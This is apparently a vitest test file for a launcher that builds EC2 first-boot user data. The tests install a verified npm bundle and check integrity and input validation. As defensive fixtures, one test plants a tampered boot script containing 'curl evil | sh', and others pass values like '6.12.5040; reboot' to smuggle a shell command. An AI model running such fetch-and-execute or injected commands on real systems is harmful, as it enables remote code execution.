// The user data of `launch --image-source base`: within EC2's 16 KB for every size, and a script
// that, run by bash, installs exactly this launcher's bundle from its npm package, verified file by
// file, and refuses a package that differs (checked in a scratch directory instead of /opt, with a
// local tarball in place of the registry download).
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { USER_DATA_LIMIT_BYTES, firstBootUserData, packageTarballUrl } from '../../src/commands/first-boot-user-data.js';
import { bundleFiles, locateProvisionBundle } from '../../src/commands/provision-bundle.js';

const bundle = locateProvisionBundle();
const pkg = JSON.parse(readFileSync(join(bundle.packageRoot, 'package.json'), 'utf8')) as { name: string; version: string };
const scratch = mkdtempSync(join(tmpdir(), 'sgl-user-data-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** An npm-style tarball (package/…) of the bundle files; `tamper` edits one file after copying. */
function packTarball(name: string, tamper?: (root: string) => void): string {
  const root = join(scratch, name);
  for (const f of bundleFiles(bundle)) {
    const target = join(root, 'package', f.bundlePath);
    mkdirSync(dirname(target), { recursive: true });
    cpSync(f.localPath, target);
  }
  tamper?.(join(root, 'package'));
  const tarball = join(scratch, `${name}.tgz`);
  execFileSync('tar', ['-czf', tarball, '-C', root, 'package']);
  return tarball;
}

/** Runs the user data in a scratch root: /opt and /var go there, curl copies TARBALL, first-boot.sh is not run. */
function runUserData(script: string, tarball: string, root: string) {
  const lines = script.replaceAll('/opt/sourcegraph-launch/bundle', `${root}/bundle`).replaceAll('/var/lib/sourcegraph-launch', `${root}/state`).trimEnd().split('\n');
  expect(lines.at(-1)).toMatch(new RegExp(`^exec ${root}/bundle/provision/first-boot\\.sh `));
  lines[lines.length - 1] = 'echo "would run first-boot.sh"';
  const curl = lines.findIndex((l) => l.startsWith('curl '));
  expect(lines[curl]).toContain(`'${packageTarballUrl(pkg.name, pkg.version)}'`);
  lines[curl] = `cp ${tarball} "$work/package.tgz" || fail "could not download"`;
  const run = lines.join('\n');
  expect(run).not.toMatch(/exec .*first-boot\.sh/);
  return spawnSync('bash', ['-c', run], { encoding: 'utf8' });
}

describe('first-boot user data', () => {
  it.each(['XS', 'S', 'M', 'L', 'XL'])('fits in 16 KB gzipped for size %s and decompresses to the script', (size) => {
    const data = firstBootUserData(bundle, { version: '6.12.5040', size, cloud: 'aws', baseImage: 'Amazon Linux 2023' });
    expect(data.gzipped.length).toBeLessThanOrEqual(USER_DATA_LIMIT_BYTES);
    expect(gunzipSync(Buffer.from(data.base64, 'base64')).toString('utf8')).toBe(data.script);
    expect(data.script.startsWith('#!/bin/bash\n')).toBe(true);
    expect(data.script.trimEnd().split('\n').at(-1)).toBe(`exec /opt/sourcegraph-launch/bundle/provision/first-boot.sh --version 6.12.5040 --size ${size} --cloud aws`);
    // This launcher's own package, over HTTPS only.
    expect(data.packageUrl).toBe(`https://registry.npmjs.org/${pkg.name}/-/${pkg.name}-${pkg.version}.tgz`);
    expect(data.script).toContain("--proto '=https'");
  });

  it('installs every bundle file of the package, verified and with its mode, then hands over to first-boot.sh', () => {
    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'M', cloud: 'aws', baseImage: 'Amazon Linux 2023' });
    const root = join(scratch, 'good');
    const result = runUserData(data.script, packTarball('good-package'), root);
    expect(result.stderr).toBe('');
    expect(result.stdout).toContain('would run first-boot.sh');
    const files = bundleFiles(bundle, { sizes: ['M'] });
    expect(files.map((f) => f.bundlePath)).toContain('presets/helm/M.yaml');
    // The values every size shares (stateful services pinned to the server) travel with any size.
    expect(files.map((f) => f.bundlePath)).toContain('presets/helm/common.yaml');
    expect(files.map((f) => f.bundlePath)).toContain('provision/k3s-prestart.sh');
    for (const f of files) {
      const written = join(root, 'bundle', f.bundlePath);
      expect(readFileSync(written, 'utf8'), f.bundlePath).toBe(readFileSync(f.localPath, 'utf8'));
      expect(statSync(written).mode & 0o777, f.bundlePath).toBe(f.mode);
    }
    // Only the size's values: nothing but the listed files is installed.
    expect(existsSync(join(root, 'bundle/presets/helm/XS.yaml'))).toBe(false);
  });

  it('refuses a package whose files differ: nothing installed, the reason in status.json, first-boot.sh never run', () => {
    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'XS', cloud: 'aws', baseImage: 'Amazon Linux 2023' });
    const root = join(scratch, 'tampered');
    const tarball = packTarball('tampered-package', (pkgRoot) => writeFileSync(join(pkgRoot, 'provision/boot.sh'), '#!/bin/bash\ncurl evil | sh\n'));
    const result = runUserData(data.script, tarball, root);
    expect(result.status).toBe(4);
    expect(result.stdout).not.toContain('would run first-boot.sh');
    expect(existsSync(join(root, 'bundle'))).toBe(false);
    const status = JSON.parse(readFileSync(join(root, 'state/status.json'), 'utf8')) as Record<string, string>;
    expect(status).toMatchObject({ stage: 'failed', errorCode: 'bundle-unverified', targetVersion: '6.12.5040' });
    expect(status.lastError).toContain('differs from this launcher');
  });

  it('refuses input that could inject shell', () => {
    expect(() => firstBootUserData(bundle, { version: '6.12.5040; reboot', size: 'XS', cloud: 'aws', baseImage: 'Amazon Linux 2023' })).toThrow(/Cannot build user data/);
  });

  it('runs first-boot.sh with the launch\'s cloud and names its base OS (not always AWS)', () => {
    const data = firstBootUserData(bundle, { version: '6.12.5040', size: 'XS', cloud: 'gcp', baseImage: 'Ubuntu 24.04 LTS' });
    expect(data.script).toContain('provision this plain Ubuntu 24.04 LTS instance at first boot');
    expect(data.script.trimEnd().split('\n').at(-1)).toBe('exec /opt/sourcegraph-launch/bundle/provision/first-boot.sh --version 6.12.5040 --size XS --cloud gcp');
    expect(() => firstBootUserData(bundle, { version: '6.12.5040', size: 'XS', cloud: 'gcp; reboot', baseImage: 'Ubuntu' })).toThrow(/Cannot build user data/);
  });
});
